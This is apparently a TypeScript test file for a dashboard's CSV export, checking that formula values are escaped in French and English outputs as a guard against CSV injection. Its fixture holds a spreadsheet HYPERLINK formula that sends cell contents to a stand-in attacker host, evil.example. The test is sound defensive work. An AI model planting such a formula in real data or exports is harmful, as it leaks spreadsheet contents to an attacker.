import { expect } from 'chai';
import { catchUp } from '../../src/dashboard/rollup.service';
import { storeStatements } from '../../src/lrs';
import { createTestApp, TestClock, type TestApp } from '../support/app';
import { signIn } from '../support/factories';
import { BASE, session, st } from './fixtures';

const S = session('c4444444-0000-4000-8000-000000000001', { title: '@SOMME(A1:A9)' });
const REACH = '/organiser/dashboard?format=csv&table=reach';
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")';

describe('dashboard: CSV exports neutralise formulas (OWASP CSV injection)', () => {
  let t: TestApp;
  before(async () => {
    t = await createTestApp({ clock: new TestClock(new Date('2026-04-01T08:00:00Z')), env: { PRIVACY_MIN_GROUP: '5', XAPI_BASE_IRI: BASE } });
    const people = ['h1', 'h2', 'h3', 'h4', 'h5', 'h6'];
    await t.database.db.transaction(async (tx) => {
      await storeStatements(
        tx,
        people.map((p) => st(p, '2026-02-10T11:00:00Z', S, { kind: 'attended', method: 'qr' }, { service: FORMULA, jobFamily: null })),
      );
    });
    await catchUp(t.database.db);
  });
  after(async () => t.close());

  it('exports a service named by a Moodle custom parameter =HYPERLINK(...) as inert text, in French and in English', async () => {
    const { browser } = await signIn(t, { role: 'organiser', isAdmin: true, contextId: 'course-csv' });
    const frRes = await browser.get(REACH);
    expect(frRes.status).to.equal(200);
    const fr = Buffer.from(await frRes.arrayBuffer()).toString('utf8');
    expect(fr).to.contain(`"'${FORMULA.replace(/"/g, '""')}";`);
    const en = Buffer.from(await (await browser.get(`${REACH}&lang=en`)).arrayBuffer()).toString('utf8');
    expect(en).to.contain(`"'${FORMULA.replace(/"/g, '""')}",`);
    for (const line of fr.replace(/^\uFEFF/, '').split('\r\n')) expect(line, line).not.to.match(/(^|;)[=+\-@\t\r]/);
  });
});
